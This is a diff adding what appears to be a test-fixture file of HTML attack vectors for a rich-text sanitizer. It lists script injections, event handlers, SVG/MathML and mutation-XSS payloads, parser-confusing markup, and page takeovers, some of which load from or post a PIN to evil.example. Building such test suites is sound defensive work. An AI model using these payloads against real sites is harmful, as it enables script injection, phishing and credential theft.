@@ -1,0 +1,256 @@
+// HTML that tries to run a script, to load from another host, to take the page over or to confuse a
+// parser, in the ways that are known: each calls `hacked()` where it succeeds.
+import { call, hostileAddresses, own } from './hostile-addresses.ts'
+
+/** Every vector, once. */
+export const richTextVectors: string[] = [
+  ...new Set([
+    ...scripts(),
+    ...handlers(),
+    ...hostileAddresses(),
+    ...foreignContent(),
+    ...brokenMarkup(),
+    ...mutations(),
+    ...takeovers(),
+    ...styles(),
+    ...embedded(),
+  ]),
+]
+
+function scripts(): string[] {
+  return [
+    `<script>${call}</script>`,
+    `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+    `<script src="https://evil.example/x.js" async></script>`,
+    `<script type="module">${call}</script>`,
+    `<script>/*</script><script>*/${call}</script>`,
+    `<script/x>${call}</script >`,
+    `<script\n>${call}</script\n>`,
+    `<scr<script>ipt>${call}</scr</script>ipt>`,
+    `<<script>${call}//<</script>`,
+    `<script>${call}`,
+    `<script\x0b>${call}</script>`,
+    `</script><script>${call}</script>`,
+    `<p><script>${call}</script></p>`,
+    `<b><script>${call}</script></b>`,
+    `<table><script>${call}</script></table>`,
+    `<noscript><script>${call}</script></noscript>`,
+    `<template><script>${call}</script></template>`,
+    `<a href="/x"><script>${call}</script></a>`,
+    `<script nonce="x">${call}</script>`,
+    `<script type="application/json">{"x":"</script><script>${call}</script>"}`,
+    `<ScRiPt>${call}</sCrIpT>`,
+    `<script defer>${call}</script>`,
+    `<script language="vbscript">${call}</script>`,
+    `<xss><script>${call}</script></xss>`,
+  ]
+}
+
+/** An event handler on each kind of element, allowed ones among them, with many spellings of it. */
+function handlers(): string[] {
+  const elements = [
+    'p',
+    'a href="/x"',
+    `img src="${own}"`,
+    'img src=x',
+    'h2',
+    'blockquote',
+    'table',
+    'td',
+    'ol start=1',
+    'figure',
+    'code',
+    'hr',
+    'br',
+    'div',
+    'span',
+    'body',
+    'marquee',
+    'video src=x',
+    'audio src=x',
+    'details open',
+    'input autofocus',
+    'button',
+    'select autofocus',
+    'textarea autofocus',
+    'keygen autofocus',
+    'custom-element',
+  ]
+  const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle']
+  return [
+    ...elements.map((element, at) => `<${element} ${events[at % events.length]}="${call}">x`),
+    ...[
+      'onanimationstart',
+      'onpointerenter',
+      'onbeforetoggle',
+      'oncontentvisibilityautostatechange',
+    ].map((event) => `<p style="animation:x" ${event}="${call}">x</p>`),
+    `<img src=x onerror=${call}>`,
+    `<img src=x onerror='${call}'>`,
+    `<img src=x OnErRoR=${call}>`,
+    `<img/src=x/onerror=${call}>`,
+    `<img\nsrc=x\nonerror=${call}>`,
+    `<img src=x onerror\n=\n${call}>`,
+    `<img src=x onerror\t=${call}>`,
+    `<img src=x onerror="&#104;acked()">`,
+    `<img src=x onerror=${call}//`,
+    `<img src="x" title="" onerror="${call}"">`,
+    `<img alt="x"onerror=${call} src=x>`,
+    `<img src=x " onerror=${call}>`,
+    `<img src=x:x onerror\x0c=${call}>`,
+    `<img src="${own}" onload="${call}" alt="a">`,
+    `<img src='x'' onerror=${call}>`,
+    '<img src=x onerror=`hacked()`>',
+    `<p onclick ="${call}" onclick="x">x</p>`,
+    `<a href="/x" onclick="${call}" onauxclick="${call}">x</a>`,
+    `<p title="x" onmouseover=${call} data-x>x</p>`,
+    `<img srcset="x" onerror="${call}">`,
+  ]
+}
+
+function foreignContent(): string[] {
+  return [
+    `<svg onload=${call}>`,
+    `<svg/onload=${call}>`,
+    `<svg><script>${call}</script></svg>`,
+    `<svg><script href="data:,${call}"/></svg>`,
+    `<svg><a xlink:href="javascript:${call}"><text y=1em>x</text></a></svg>`,
+    `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+    `<svg><a><animate attributeName=href values="javascript:${call}"/><text>x</text></a></svg>`,
+    `<svg><set attributeName=onmouseover to=${call}>`,
+    `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x">`,
+    `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
+    `<svg><style><img src=x onerror=${call}></style></svg>`,
+    `<svg><desc><img src=x onerror=${call}></desc></svg>`,
+    `<svg><image href=x onerror=${call}>`,
+    `<svg><discard onbegin=${call}>`,
+    `<math href="javascript:${call}">x</math>`,
+    `<math><mtext><img src=x onerror=${call}></mtext></math>`,
+    `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
+    `<math><maction actiontype="statusline#x" xlink:href="javascript:${call}">x</maction></math>`,
+  ]
+}
+
+/** Markup that parsers read in different ways. */
+function brokenMarkup(): string[] {
+  return [
+    `<!--><img src=x onerror=${call}>-->`,
+    `<!---><img src=x onerror=${call}>-->`,
+    `<!-- --!><img src=x onerror=${call}> -->`,
+    `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
+    `<![CDATA[<img src=x onerror=${call}>]]>`,
+    `<?xml version="1.0"?><img src=x onerror=${call}>`,
+    `<!DOCTYPE html [<!ENTITY x "<script>${call}</script>">]>&x;`,
+    `<title><img src=x onerror=${call}></title>`,
+    `</title><img src=x onerror=${call}>`,
+    `<textarea></textarea><img src=x onerror=${call}>`,
+    `<textarea><img title="</textarea><img src=x onerror=${call}>"></textarea>`,
+    `<noembed><img title="</noembed><img src=x onerror=${call}>"></noembed>`,
+    `<noframes><p title="</noframes><img src=x onerror=${call}>">`,
+    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+    `<xmp><p title="</xmp><img src=x onerror=${call}>"></xmp>`,
+    `<plaintext><img src=x onerror=${call}>`,
+    `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
+    `<iframe><p title="</iframe><img src=x onerror=${call}>"></iframe>`,
+    `<style><p title="</style><img src=x onerror=${call}>"></style>`,
+    `<p title="<img src=x onerror=${call}>">x</p>`,
+    `<p title='"><img src=x onerror=${call}>'>x</p>`,
+    `<a title="x>y" href="javascript:${call}">x</a>`,
+    `<img """><script>${call}</script>">`,
+    `&lt;script&gt;${call}&lt;/script&gt;`,
+    `&amp;lt;img src=x onerror=${call}&amp;gt;`,
+    `%3Cscript%3E${call}%3C/script%3E`,
+    `\u003cscript\u003e${call}\u003c/script\u003e`,
+    `＜script＞${call}＜/script＞`,
+    `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
+    `${'<div>'.repeat(600)}<img src=x onerror=${call}>`,
+    `${'<b><p>'.repeat(60)}<img src=x onerror=${call}>`,
+    `<select><option><img src=x onerror=${call}></option></select>`,
+    `<select><template><img src=x onerror=${call}></template></select>`,
+    `<table><td><select><table><img src=x onerror=${call}>`,
+    `<a href="/x" <img src=x onerror=${call}>>x</a>`,
+  ]
+}
+
+/** Known ways in which harmless markup turns harmful when it is written and read once more. */
+function mutations(): string[] {
+  return [
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
+    `<math><mtext><table><mglyph><style><math><img src onerror=${call}>`,
+    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
+    `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
+    `<svg><p><style><a title="</style><img src onerror=${call}>"></style></p></svg>`,
+    `<svg><title><style><img src onerror=${call}></style></title></svg>`,
+    `<math><mi><table><mi><mi><style><p title="</style><img src onerror=${call}>">`,
+    `<noscript><style></noscript><img src=x onerror=${call}></style></noscript>`,
+    `<table><a href="javascript:${call}"><tr><td>x</td></tr></a></table>`,
+    `<p><svg><desc><table><a title="</desc><img src onerror=${call}>">`,
+    `<listing>\n<img title="</listing><img src onerror=${call}>">`,
+    `<p id="</p><img src onerror=${call}>"><style><!--</style>--></p>`,
+    `<b><table><i></b><img src onerror=${call}></i></table>`,
+    `<a><svg><a><style><img title="</style><img src onerror=${call}>"></a></svg></a>`,
+  ]
+}
+
+/** What needs no script: forms, other bases, refreshes, names that shadow the page's own. */
+function takeovers(): string[] {
+  return [
+    `<form action="https://evil.example"><input name=pin><button>Log in</button></form>`,
+    `<form action="javascript:${call}"><button>x</button></form>`,
+    `<button form=x formaction="javascript:${call}">x</button>`,
+    `<input type=image src=x onerror=${call}>`,
+    `<isindex type=image src=1 onerror=${call}>`,
+    `<base href="https://evil.example/">`,
+    `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
+    `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
+    `<link rel=stylesheet href="https://evil.example/x.css">`,
+    `<link rel=prefetch href="https://evil.example/x">`,
+    `<html onload=${call}><body>x`,
+    `<head><script>${call}</script></head>`,
+    `<frameset onload=${call}>`,
+    `<dialog open>Log in again</dialog>`,
+    `<p id="root" class="toast">x</p>`,
+    `<a id=config><a id=config name=token href="/x">x</a>`,
+    `<img name=cookie src="${own}">`,
+    `<p popover id=x>x</p><button popovertarget=x>x</button>`,
+    `<p contenteditable tabindex=1 accesskey=x autofocus onfocus=${call}>x</p>`,
+    `<slot name=x></slot><p slot=x is=x part=x>x</p>`,
+    `<p data-sonner-toast data-theme=light>x</p>`,
+  ]
+}
+
+function styles(): string[] {
+  return [
+    `<style>@import "https://evil.example/x.css";</style>`,
+    `<style>*{background:url(https://evil.example/x)}</style>`,
+    `<p style="background:url(javascript:${call})">x</p>`,
+    `<p style="width:expression(${call})">x</p>`,
+    `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
+    `<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>`,
+    `<font color="red" face="x" size=7>x</font>`,
+    `<center><blink><marquee>x</marquee></blink></center>`,
+  ]
+}
+
+function embedded(): string[] {
+  return [
+    `<iframe src="javascript:${call}"></iframe>`,
+    `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
+    `<iframe src="https://evil.example"></iframe>`,
+    `<object data="data:text/html,<script>${call}</script>"></object>`,
+    `<object><param name=code value="x"></object>`,
+    `<embed src="javascript:${call}">`,
+    `<embed src="data:image/svg+xml,<svg onload=${call}>">`,
+    `<applet code=x></applet>`,
+    `<video><source onerror=${call}></video>`,
+    `<video poster="javascript:${call}" src=x></video>`,
+    `<audio autoplay src="https://evil.example/x.mp3"></audio>`,
+    `<picture><source srcset="https://evil.example/x"><img src="${own}"></picture>`,
+    `<canvas onfocus=${call} tabindex=1></canvas>`,
+    `<portal src="https://evil.example"></portal>`,
+    `<fencedframe src="https://evil.example"></fencedframe>`,
+    `<bgsound src="javascript:${call}">`,
+    `<layer src="javascript:${call}"></layer>`,
+    `<webview src="https://evil.example"></webview>`,
+  ]
+}
